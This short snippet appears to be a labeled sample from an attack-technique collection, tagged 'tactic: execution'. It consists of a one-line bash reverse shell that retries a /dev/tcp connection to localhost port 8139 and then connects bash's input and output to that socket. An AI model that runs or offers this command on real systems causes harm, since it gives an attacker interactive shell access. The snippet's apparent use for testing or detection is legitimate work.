# tactic: execution
# a bash reverse shell that retries its callback while the listener is down (the connect is refused)
bash -c 'n=0; until exec 7<>/dev/tcp/localhost/8139; do n=$((n+1)); [ $n -ge 2 ] && break; done; bash <&7 >&7 2>&7' 2>/dev/null; true
